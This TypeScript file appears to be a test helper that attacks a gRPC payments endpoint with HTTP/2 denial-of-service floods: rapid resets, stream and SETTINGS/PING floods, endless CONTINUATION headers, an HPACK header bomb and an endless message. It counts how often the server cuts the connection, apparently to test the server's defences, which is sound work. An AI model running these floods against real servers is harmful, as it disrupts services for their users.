import { setTimeout as sleep } from "node:timers/promises";
import { callHeaders, FLAG, FRAME, frame, literal, NEWEST, rawConnection } from "./raw-http2.ts";

/**
 * A process of its own that floods a gRPC door through two connections until its time is over, and opens each anew a
 * moment after the door cut it. It says how often that happened.
 */
const [address = "", kind = "", forMs = "1000"] = process.argv.slice(2);

const PATH = "/oi.payments.v1.ApplicationsService/GetApplication";
const REST_AFTER_CUT_MS = 250;

type Flood = (send: (chunk: Buffer) => Promise<void>, streamId: () => number) => Promise<void>;

const repeat = (chunk: Buffer, times: number): Buffer =>
  Buffer.concat(Array.from({ length: times }, () => chunk));

const rapidReset: Flood = async (send, streamId) => {
  const frames = Array.from({ length: 500 }, () => {
    const stream = streamId();
    const headers = frame(FRAME.headers, FLAG.endHeaders, stream, callHeaders(PATH));
    return Buffer.concat([headers, frame(FRAME.rstStream, 0, stream, Buffer.from([0, 0, 0, 8]))]);
  });
  await send(Buffer.concat(frames));
};

const openStreams: Flood = async (send, streamId) => {
  const frames = Array.from({ length: 2_500 }, () =>
    frame(FRAME.headers, FLAG.endHeaders, streamId(), callHeaders(PATH)),
  );
  await send(Buffer.concat(frames));
};

const settings: Flood = (send) =>
  send(repeat(frame(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])), 2_000));

const pings: Flood = (send) => send(repeat(frame(FRAME.ping, 0, 0, Buffer.alloc(8)), 2_000));

const hugeHeaders: Flood = async (send, streamId) => {
  const stream = streamId();
  const block = Buffer.concat(Array.from({ length: 4 }, (_, i) => literal(`x-${i}`, "v".repeat(4_000))));
  await send(frame(FRAME.headers, 0, stream, callHeaders(PATH)));
  for (let i = 0; i < 50; i++) await send(frame(FRAME.continuation, 0, stream, block.subarray(0, 16_000)));
};

/** One entry of the table, named thousands of times: some bytes on the wire, megabytes once unpacked. */
const headerBomb: Flood = async (send, streamId) => {
  const block = [callHeaders(PATH), literal("x-bomb", "b".repeat(3_900), true), repeat(NEWEST, 12_000)];
  await send(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamId(), Buffer.concat(block)));
};

/** A message that says it is a gigabyte, and goes on for as long as it is let. */
const endlessMessage: Flood = async (send, streamId) => {
  const stream = streamId();
  await send(frame(FRAME.headers, FLAG.endHeaders, stream, callHeaders(PATH)));
  await send(frame(FRAME.data, 0, stream, Buffer.from([0, 0x40, 0, 0, 0])));
  for (let i = 0; i < 20; i++) await send(frame(FRAME.data, 0, stream, Buffer.alloc(16_000)));
};

const FLOODS: Readonly<Record<string, { readonly flood: Flood; readonly reads: boolean }>> = {
  "rapid resets": { flood: rapidReset, reads: true },
  "ten thousand streams": { flood: openStreams, reads: true },
  "settings that are never read": { flood: settings, reads: false },
  settings: { flood: settings, reads: true },
  "pings that are never read": { flood: pings, reads: false },
  pings: { flood: pings, reads: true },
  "headers without an end": { flood: hugeHeaders, reads: true },
  "headers that unpack to megabytes": { flood: headerBomb, reads: true },
  "messages without an end": { flood: endlessMessage, reads: true },
};

const chosen = FLOODS[kind];
if (!chosen) throw new Error(`${kind} is no flood`);
const { flood, reads } = chosen;
const endMs = performance.now() + Number(forMs);
const isOver = (): boolean => performance.now() >= endMs;
let cut = 0;

async function attack(): Promise<void> {
  while (!isOver()) {
    const connection = await rawConnection(address, reads);
    let stream = -1;
    const streamId = (): number => {
      stream += 2;
      return stream;
    };
    while (!isOver() && connection.isOpen()) {
      await Promise.race([flood(connection.send, streamId), sleep(200)]);
      await sleep(5);
    }
    if (!connection.isOpen()) cut += 1;
    connection.socket.destroy();
    await sleep(REST_AFTER_CUT_MS);
  }
}

await Promise.all([attack(), attack()]);
process.stdout.write(`${cut}\n`);
process.exit(0);
